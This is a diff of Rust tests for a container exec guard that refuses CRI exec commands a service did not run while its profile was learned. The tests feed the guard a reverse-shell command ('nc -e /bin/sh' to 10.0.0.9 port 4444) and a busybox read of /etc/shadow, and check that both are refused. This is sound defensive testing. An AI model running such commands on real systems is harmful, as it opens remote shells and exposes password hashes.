@@ -10,7 +10,8 @@ use crate::report::{Observer, SinkContext};
 use crate::test_support::{cri_in, recording_of};
 
 /// What a web service did while it learned: the runtime started `nc` (its entrypoint) and
-/// `busybox` (an exec probe); `nc` started `sh` (its handler's interpreter).
+/// `busybox` (an exec probe, `busybox cat /etc/hostname`); `nc` started `sh` (its handler's
+/// interpreter).
 fn recording() -> Recording {
     let exec = |path: &str, parent: Option<&str>| Observation::Exec {
         path: path.into(),
@@ -20,7 +21,17 @@ fn recording() -> Recording {
         exec("/bin/nc", None),
         exec("/bin/busybox", None),
         exec("/bin/sh", Some("/bin/nc")),
+        Observation::RuntimeCommand {
+            argv: vec!["/bin/busybox".into(), "cat".into(), "/etc/hostname".into()],
+        },
     ])
+}
+
+/// The same recording as a document written before CRI exec commands were recorded.
+fn recording_without_commands() -> Recording {
+    let mut r = recording();
+    r.runtime_commands = None;
+    r
 }
 
 /// A container root like busybox's image: `sh` and `nc` are symlinks to busybox (one
@@ -48,6 +59,11 @@ type Seen = Arc<Mutex<Vec<Event>>>;
 
 /// The check of shop/web's container c1 in `mode`, with the events it reports.
 fn guard(mode: Mode) -> (ExecGuard, Seen) {
+    guard_of(mode, recording())
+}
+
+/// The check of shop/web's container c1 in `mode` under `recording`.
+fn guard_of(mode: Mode, recording: Recording) -> (ExecGuard, Seen) {
     let seen: Seen = Arc::default();
     let into = seen.clone();
     let reporter = Reporter::start_with(
@@ -72,7 +88,7 @@ fn guard(mode: Mode) -> (ExecGuard, Seen) {
         },
         mode,
         policies: Vec::new(),
-        recording: recording(),
+        recording,
         notes: Vec::new(),
         events: Vec::new(),
     };
@@ -83,19 +99,28 @@ fn guard(mode: Mode) -> (ExecGuard, Seen) {
     )
 }
 
-/// Checks an exec of `args` with `env` in `root`: the result and the departure handed on.
+/// Checks an exec of `args` with `env` in `root`: the result and the departures handed on
+/// (with whether each was refused).
 fn check(
     g: &ExecGuard,
     root: &Path,
     args: &[&str],
     env: &[&str],
-) -> (Result<(), ProfileExecError>, Option<Observation>) {
-    let mut departed = None;
+) -> (Result<(), ProfileExecError>, Vec<(Observation, bool)>) {
+    let mut departed = Vec::new();
     let process = json!({"args": args, "env": env, "cwd": "/"});
     let r = g
-        .check("e1", &process, root, |o| departed = Some(o))
+        .check("e1", &process, root, |o, refused| {
+            departed.push((o, refused))
+        })
         .map_err(|e| *e);
     (r, departed)
+}
+
+fn command(words: &[&str]) -> Observation {
+    Observation::RuntimeCommand {
+        argv: words.iter().map(|w| w.to_string()).collect(),
+    }
 }
 
 #[test]
@@ -153,14 +178,20 @@ fn names_resolve_as_the_runtime_resolves_them() {
 fn enforced_an_exec_the_runtime_never_started_is_refused_and_reported() {
     let root = rootfs();
     let (g, seen) = guard(Mode::Enforce);
-    // The entrypoint and the exec probe the runtime started while learning stay allowed,
-    // by their names.
-    assert!(check(&g, root.path(), &["nc", "-h"], &[]).0.is_ok());
+    // The exec probe's command stays allowed, by the name it ran and as it ran.
     assert!(
-        check(&g, root.path(), &["busybox", "sh", "-c", "true"], &[])
+        check(&g, root.path(), &["busybox", "cat", "/etc/hostname"], &[])
             .0
             .is_ok()
     );
+    assert!(check(
+        &g,
+        root.path(),
+        &["/bin/busybox", "cat", "/etc/hostname"],
+        &[]
+    )
+    .0
+    .is_ok());
     assert!(
         seen.lock().unwrap().is_empty(),
         "allowed execs are not reported"
@@ -178,26 +209,33 @@ fn enforced_an_exec_the_runtime_never_started_is_refused_and_reported() {
         text.contains("palisade profile pin shop/web audit"),
         "{text}"
     );
+    // Both what accepting it takes: the exec by the runtime and its command.
     assert_eq!(
         departed,
-        Some(Observation::Exec {
-            path: "/bin/sh".into(),
-            parent: None
-        })
+        vec![
+            (
+                Observation::Exec {
+                    path: "/bin/sh".into(),
+                    parent: None
+                },
+                true
+            ),
+            (command(&["/bin/sh", "-c", "true"]), true)
+        ]
     );
     // A binary the service never ran at all.
     let (r, departed) = check(&g, root.path(), &["/usr/bin/probe", "getpid"], &[]);
     assert!(
         matches!(r, Err(ProfileExecError::NeverStarted { binary, .. }) if binary == "/usr/bin/probe")
     );
-    assert!(departed.is_some());
+    assert_eq!(departed.len(), 2);
     // A name that runs nothing is refused too, with no departure to accept.
     let (r, departed) = check(&g, root.path(), &["nosuch"], &[]);
     assert!(
         matches!(r, Err(ProfileExecError::NotRunnable { .. })),
         "{r:?}"
     );
-    assert_eq!(departed, None);
+    assert!(departed.is_empty());
     let seen = seen.lock().unwrap();
     assert_eq!(seen.len(), 3, "{seen:?}");
     let shell = &seen[0];
@@ -222,14 +260,99 @@ fn enforced_an_exec_the_runtime_never_started_is_refused_and_reported() {
     );
 }
 
+/// The probe's executable is busybox, which is every applet: its other commands are refused,
+/// and the entrypoint's executable does not open CRI execs of it either.
+#[test]
+fn a_learned_command_allows_itself_not_its_executable() {
+    let root = rootfs();
+    let (g, seen) = guard(Mode::Enforce);
+    let (r, departed) = check(&g, root.path(), &["busybox", "sh", "-c", "true"], &[]);
+    let text = r.unwrap_err().to_string();
+    assert!(
+        text.starts_with("container c1: exec e1 refused: no CRI exec ran the command /bin/busybox sh -c true while shop/web learned (the runtime did start /bin/busybox)"),
+        "{text}"
+    );
+    assert!(text.contains("palisade profile accept shop/web"), "{text}");
+    assert_eq!(
+        departed,
+        vec![(command(&["/bin/busybox", "sh", "-c", "true"]), true)]
+    );
+    let (r, _) = check(&g, root.path(), &["busybox", "cat", "/etc/shadow"], &[]);
+    assert!(
+        matches!(r, Err(ProfileExecError::NewCommand { .. })),
+        "{r:?}"
+    );
+    // The entrypoint nc was started by the runtime, but never through a CRI exec.
+    let (r, departed) = check(
+        &g,
+        root.path(),
+        &["nc", "-e", "/bin/sh", "10.0.0.9", "4444"],
+        &[],
+    );
+    assert!(
+        matches!(r, Err(ProfileExecError::NewCommand { .. })),
+        "{r:?}"
+    );
+    assert_eq!(
+        departed,
+        vec![(
+            command(&["/bin/nc", "-e", "/bin/sh", "10.0.0.9", "4444"]),
+            true
+        )]
+    );
+    let seen = seen.lock().unwrap();
+    assert_eq!(seen.len(), 3, "{seen:?}");
+    assert!(
+        seen[0]
+            .rule
+            .message
+            .contains("no CRI exec ran the command /bin/busybox sh -c true while it learned"),
+        "{}",
+        seen[0].rule.message
+    );
+    assert_eq!(seen[0].action, Action::Block);
+}
+
+/// A document written before commands were recorded is judged by the executable alone.
+#[test]
+fn without_recorded_commands_the_executable_decides() {
+    let root = rootfs();
+    let (g, seen) = guard_of(Mode::Enforce, recording_without_commands());
+    assert!(
+        check(&g, root.path(), &["busybox", "sh", "-c", "true"], &[])
+            .0
+            .is_ok()
+    );
+    assert!(check(&g, root.path(), &["nc", "-h"], &[]).0.is_ok());
+    let (r, departed) = check(&g, root.path(), &["sh", "-c", "true"], &[]);
+    assert!(
+        matches!(r, Err(ProfileExecError::NeverStarted { .. })),
+        "{r:?}"
+    );
+    assert_eq!(
+        departed.len(),
+        1,
+        "only the exec: no commands to depart from"
+    );
+    assert_eq!(seen.lock().unwrap().len(), 1);
+    assert!(g
+        .describe()
+        .contains("executables the runtime did not start"));
+    assert!(g.record()["note"]
+        .as_str()
+        .unwrap()
+        .contains("the profile holds no commands"));
+}
+
 #[test]
 fn in_audit_it_runs_and_is_reported() {
     let root = rootfs();
     let (g, seen) = guard(Mode::Audit);
     let (r, departed) = check(&g, root.path(), &["sh"], &[]);
     assert!(r.is_ok());
-    // The monitor records the departure when it runs: not here, not twice.
-    assert_eq!(departed, None);
+    // The monitor records the exec's departure when it runs: not here, not twice. Its
+    // command is departed here, reported (not refused).
+    assert_eq!(departed, vec![(command(&["/bin/sh"]), false)]);
     let (r, _) = check(&g, root.path(), &["nosuch"], &[]);
     assert!(r.is_ok(), "nothing runs: nothing to report");
     let seen = seen.lock().unwrap();
@@ -243,13 +366,13 @@ fn in_audit_it_runs_and_is_reported() {
 fn a_lookup_that_fails_refuses_under_enforce_only() {
     let (enforced, _) = guard(Mode::Enforce);
     let (audited, _) = guard(Mode::Audit);
-    let failed = || Err(std::io::Error::from_raw_os_error(libc::EIO));
+    let failed = || Invocation {
+        args: vec!["sh".into()],
+        resolved: Err(std::io::Error::from_raw_os_error(libc::EIO)),
+    };
     assert!(matches!(
         enforced.verdict(&failed()),
-        Verdict::Refuse {
-            departure: None,
-            ..
-        }
+        Verdict::Refuse { departures, .. } if departures.is_empty()
     ));
     assert_eq!(audited.verdict(&failed()), Verdict::Allow);
     // A root that is not there (the container's process gone) is such a failure.
@@ -267,7 +390,7 @@ fn the_applied_event_says_what_enforces_it() {
     let (g, _) = guard(Mode::Enforce);
     assert_eq!(
         g.describe(),
-        "; CRI execs of executables the runtime did not start while learning refused (shim-exec: 2 allowed)"
+        "; CRI execs other than the commands CRI execs ran while learning refused (shim-exec, commands allowed: 1)"
     );
     let record = g.record();
     assert_eq!(record["enforcer"], ENFORCER);
